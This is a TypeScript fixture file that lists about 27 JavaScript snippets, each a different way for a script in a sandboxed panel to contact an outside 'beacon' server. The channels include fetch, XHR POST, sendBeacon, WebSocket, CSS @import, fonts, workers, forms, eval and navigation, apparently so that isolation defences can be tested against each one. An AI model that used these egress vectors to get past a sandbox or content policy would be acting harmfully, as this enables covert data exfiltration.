/**
 * What a script in the panel could try in order to reach `beacon`, a server that is not the panel's own. None can run
 * there in the first place; this is the second wall.
 */
export const waysOut: Readonly<Record<string, string>> = {
  fetch: `fetch(beacon)`,
  XMLHttpRequest: `new Promise((_, reject) => {
    const request = new XMLHttpRequest();
    request.onerror = () => reject(new Error('error'));
    request.open('POST', beacon);
    request.send('x');
  })`,
  beacon: `navigator.sendBeacon(beacon, 'x')`,
  WebSocket: `new WebSocket(beacon.replace('http', 'ws'))`,
  EventSource: `new EventSource(beacon)`,
  image: `Object.assign(new Image(), { src: beacon })`,
  script: `add('script', { src: beacon })`,
  'inline script': `add('script', { textContent: 'void fetch("' + beacon + '")' })`,
  'inline handler': `(() => {
    const text = add('b', {});
    text.setAttribute('onclick', 'fetch("' + beacon + '")');
    text.click();
  })()`,
  // In a turn of its own: what is run from outside the page may do it.
  'text as script': `new Promise((_, reject) => setTimeout(() => {
    try {
      eval('fetch("' + beacon + '")');
    } catch (failure) {
      reject(failure);
    }
  }))`,
  'style sheet': `add('link', { rel: 'stylesheet', href: beacon })`,
  'inline style': `add('style', { textContent: '@import "' + beacon + '";' })`,
  'style attribute': `add('b', {}).setAttribute('style', 'background: url(' + beacon + ')')`,
  font: `new FontFace('x', 'url(' + beacon + ')').load()`,
  frame: `add('iframe', { src: beacon })`,
  object: `add('object', { data: beacon })`,
  embed: `add('embed', { src: beacon })`,
  video: `add('video', { src: beacon })`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + beacon + '")'])))`,
  prefetch: `add('link', { rel: 'prefetch', href: beacon })`,
  form: `add('form', { action: beacon, method: 'post' }).submit()`,
  base: `add('base', { href: beacon })`,
  'script address': `add('a', { href: 'javascript:fetch("' + beacon + '")' }).click()`,
  'window of its own': `window.open(beacon) ?? Promise.reject(new Error('no window'))`,
  'whole window': `(top.location.href = beacon)`,
  location: `(location.href = beacon)`,
  refresh: `add('meta', { httpEquiv: 'refresh', content: '0;url=' + beacon })`,
};
